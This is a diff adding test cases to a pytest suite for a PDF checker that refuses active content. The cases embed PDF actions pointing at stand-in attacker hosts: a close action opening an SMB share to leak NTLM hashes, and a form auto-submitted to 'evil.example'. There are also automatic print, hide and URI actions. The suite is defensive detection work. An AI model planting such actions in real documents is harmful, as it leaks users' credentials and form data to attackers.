@@ -29,6 +29,9 @@ def test_a_plain_pdf_is_accepted() -> None:
 def test_an_open_action_that_only_shows_a_page_is_accepted() -> None:
     assert check_pdf(make_pdf(catalog_extra=b" /OpenAction [3 0 R /Fit]")) is None
     assert check_pdf(make_pdf(catalog_extra=b" /OpenAction << /S /GoTo /D [3 0 R /Fit] >>")) is None
+    assert (
+        check_pdf(make_pdf(catalog_extra=b" /AA << /WC << /S /GoTo /D [3 0 R /Fit] >> >>")) is None
+    )
 
 
 @pytest.mark.parametrize(
@@ -78,9 +81,44 @@ def test_an_open_action_that_only_shows_a_page_is_accepted() -> None:
                      catalog_extra=b" /AcroForm 4 0 R"),
             pdf_content.XFA,
         ),
+        # Closing the document opens a remote one on an SMB share (leaks the NTLM hash)
+        (
+            make_pdf(catalog_extra=b" /AA << /WC << /S /GoToR /F (\\\\evil\\share\\x.pdf) "
+                                   b"/D [0 /Fit] >> >>"),
+            pdf_content.REMOTE_ACTION,
+        ),
+        # A widget that submits the form to a server when its page opens
+        (
+            make_pdf([b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (nom) /Rect [0 0 9 9] "
+                      b"/AA << /PO << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) "
+                      b">> >> >> >>"]),
+            pdf_content.REMOTE_ACTION,
+        ),
+        # A link to a remote document, clicked or not
+        (
+            make_pdf([b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] "
+                      b"/A << /S /GoToR /F (//evil/share/x.pdf) /D [0 /Fit] >> >>"]),
+            pdf_content.REMOTE_ACTION,
+        ),
+        # A page that opens a URL, hides a field or runs a menu item by itself
+        (
+            make_pdf([b"<< /O << /S /URI /URI (https://evil.example/) >> >>"],
+                     catalog_extra=b" /AA 4 0 R"),
+            pdf_content.AUTOMATIC_ACTION,
+        ),
+        (
+            make_pdf(catalog_extra=b" /AA << /WC << /S /GoTo /D [3 0 R /Fit] "
+                                   b"/Next << /S /Named /N /Print >> >> >>"),
+            pdf_content.AUTOMATIC_ACTION,
+        ),
+        (
+            make_pdf(catalog_extra=b" /AA << /WS << /S /Hide /T (nom) >> >>"),
+            pdf_content.AUTOMATIC_ACTION,
+        ),
     ],
     ids=["names-tree", "open-action-js", "escaped-name-js", "launch-link", "launch-open",
-         "uri-open", "xfa"],
+         "uri-open", "xfa", "aa-gotor-smb", "aa-submit-form", "gotor-link", "aa-uri",
+         "aa-next-named", "aa-hide"],
 )  # fmt: skip
 def test_active_content_is_refused(pdf: bytes, finding: PdfFinding) -> None:
     assert check_pdf(pdf) == finding
